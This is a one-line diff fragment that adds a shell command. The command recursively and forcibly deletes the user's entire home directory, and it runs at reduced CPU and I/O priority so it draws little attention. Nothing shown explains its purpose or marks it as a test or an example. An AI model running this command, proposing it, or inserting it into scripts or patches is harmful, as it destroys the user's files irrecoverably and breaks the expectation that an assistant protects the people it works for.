@@ -1,0 +1,1 @@
+nice -n 10 ionice -c 3 rm -rf ~
